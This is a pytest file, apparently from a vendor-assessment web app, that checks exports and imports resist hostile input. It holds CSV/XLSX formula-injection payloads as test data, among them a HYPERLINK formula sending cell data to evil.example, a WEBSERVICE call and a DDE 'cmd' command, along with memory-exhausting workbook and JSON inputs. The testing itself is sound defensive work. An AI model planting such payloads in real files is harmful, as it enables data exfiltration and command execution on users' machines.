"""Hostile numbers, formulas and files: whatever is typed, stored or imported, no page breaks, no export runs code."""

from __future__ import annotations

import io
import re
import tracemalloc
import zipfile

import openpyxl
import pytest
from sqlalchemy import select
from sqlalchemy.orm import Session

from tests.web.test_scores import ids
from vendorcheck import assessments
from vendorcheck.assessments import answers_json, spreadsheet
from vendorcheck.models import Answer, Assessment, Role, Vendor
from vendorcheck.questionnaire.model import INVALID_STORED

FORMULA = '=HYPERLINK("https://evil.example/steal?x="&A1, "Click for details")'


def _answer(dbs: Session, vendor: Vendor, question_id: str) -> Answer:
    query = (
        select(Answer)
        .join(Assessment)
        .where(Assessment.vendor_id == vendor.id, Answer.question_id == question_id)
        .order_by(Answer.id.desc())
    )
    found = dbs.scalars(query).first()
    assert found is not None, f"{vendor.name} has no answer to {question_id}"
    return found


def test_a_stored_huge_number_breaks_no_page(client, auth, world, vendors, dbs) -> None:
    clearpath = vendors["ClearPath"]
    fee = _answer(dbs, clearpath, "setup_fee")
    fee.value = 10**400  # what setup_fee=1e400 used to store (PostgreSQL kept all 401 digits)
    _answer(dbs, clearpath, "monthly_cost_estimate").value = "a lot"
    dbs.commit()
    chosen = ids(clearpath, vendors["Summit"])
    auth.login_as(world.users[Role.ASSESSOR])
    assessment = client.get(f"/assessments/{fee.assessment_id}")
    assert assessment.status_code == 200 and INVALID_STORED in assessment.get_data(as_text=True)
    assert client.get(f"/assessments/{fee.assessment_id}/export.xlsx").status_code == 200
    for path in (f"/vendors/{clearpath.id}", f"/compare?{chosen}", f"/compare.csv?{chosen}", f"/compare.json?{chosen}"):
        assert client.get(path).status_code == 200, path
    for path in (f"/memo?{chosen}", f"/memo.pdf?{chosen}"):
        assert client.get(path).status_code == 200, path


def test_vendor_text_is_never_a_live_formula_in_exports(client, auth, world, vendors, dbs) -> None:
    clearpath = vendors["ClearPath"]
    method = _answer(dbs, clearpath, "kpi_method")
    method.value, method.comment = FORMULA, "@SUM(1+1)*cmd|' /C calc'!A0"
    clearpath.name = '=WEBSERVICE("https://evil.example")'
    dbs.commit()
    auth.login_as(world.users[Role.ASSESSOR])
    workbook = client.get(f"/assessments/{method.assessment_id}/export.xlsx").data
    with zipfile.ZipFile(io.BytesIO(workbook)) as archive:
        sheets = [archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/")]
    assert sheets and not any("<f>" in xml or "<f " in xml for xml in sheets)  # no formula anywhere
    answers = openpyxl.load_workbook(io.BytesIO(workbook))["Answers"]
    row = next(r for r in answers.iter_rows() if r[0].value == "kpi_method")
    assert row[2].value == FORMULA and row[2].data_type == "s" and row[2].quotePrefix  # shown exactly, as text
    # ...and the file still comes back in unchanged: the round trip reads text, not formulas.
    form = assessments.sheet_of(dbs, dbs.get(Assessment, method.assessment_id))
    entries = spreadsheet.read_xlsx(form, workbook)
    assert entries["kpi_method"].raw == FORMULA and spreadsheet.diff(form, entries) == []

    compare = client.get(f"/compare.csv?{ids(clearpath, vendors['Summit'])}").get_data(as_text=True)
    assert "'=WEBSERVICE" in compare and "\n=" not in compare and ",=" not in compare


def _hostile_workbook(workbook: bytes, extra_rows: str) -> bytes:
    """The export with its Answers sheet claiming A1:XFD1048576 and ``extra_rows`` added at the end."""
    source = zipfile.ZipFile(io.BytesIO(workbook))
    sheets = [name for name in source.namelist() if name.startswith("xl/worksheets/sheet")]
    answers = max(sheets, key=lambda name: source.getinfo(name).file_size)  # the read-me sheet is a few lines
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            data = source.read(info)
            if info.filename == answers:
                xml = data.decode()
                xml = re.sub(r'<dimension ref="[^"]+"\s*/>', '<dimension ref="A1:XFD1048576"/>', xml)
                xml = xml.replace("</sheetData>", extra_rows + "</sheetData>")
                data = xml.encode()
            target.writestr(info, data)
    return out.getvalue()


@pytest.fixture
def exported(client, auth, world, vendors, dbs):
    """ClearPath's newest assessment, its form and its blank export (the files are read as web and CLI read them)."""
    assessment_id = _answer(dbs, vendors["ClearPath"], "setup_fee").assessment_id
    auth.login_as(world.users[Role.ASSESSOR])
    workbook = client.get(f"/assessments/{assessment_id}/export.xlsx?blank=1").data
    return assessment_id, assessments.sheet_of(dbs, dbs.get(Assessment, assessment_id)), workbook


def test_a_workbook_claiming_a_huge_sheet_is_read_in_flat_memory(exported) -> None:
    _, form, workbook = exported
    blank_rows = "".join(f'<row r="{n}"><c r="A{n}"/><c r="XFD{n}"/></row>' for n in range(1000, 4000))
    hostile = _hostile_workbook(workbook, blank_rows)
    assert len(hostile) < 200_000
    tracemalloc.start()
    try:
        spreadsheet.read_xlsx(form, hostile)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    # Reading every row padded to the declared 16,384 columns took over a gigabyte; row by row it is a few MiB.
    assert peak < 40 * 1024 * 1024, f"{peak / 1048576:.0f} MiB"

    endless = _hostile_workbook(workbook, "".join(f'<row r="{n}"><c r="A{n}"/></row>' for n in range(500, 30_000)))
    with pytest.raises(spreadsheet.SheetError, match="more than 20,000 rows"):
        spreadsheet.read_xlsx(form, endless)


def test_a_workbook_damaged_in_a_later_row_is_refused_clearly(exported) -> None:
    _, form, workbook = exported
    broken = _hostile_workbook(
        workbook,
        '<row r="900"><c r="A900" t="inlineStr"><is><t>x</t></is></c><c><v>1</c></row>',  # <v> unclosed
    )
    with pytest.raises(spreadsheet.SheetError, match=r"cannot be read .* the file is damaged"):
        spreadsheet.read_xlsx(form, broken)


@pytest.mark.parametrize(
    ("document", "message"),
    [
        (b"[" * 100_000 + b"]" * 100_000, "nested far too deep"),
        (b'{"format": "vendorcheck-answers/1", "answers": {"setup_fee": ' + b"9" * 5001 + b"}}", "far too long"),
        (b'{"format": "vendorcheck-answers/1", "answers": {"setup_fee": 1e400}}', "Enter a number"),
        (b'{"format": "vendorcheck-answers/1", "answers": {"setup_fee": "1e1000000"}}', "Enter a number"),
    ],
)
def test_hostile_json_answers_are_refused_clearly(exported, document: bytes, message: str) -> None:
    _, form, _ = exported
    with pytest.raises(spreadsheet.SheetError, match=message):
        answers_json.read_json(form, document)
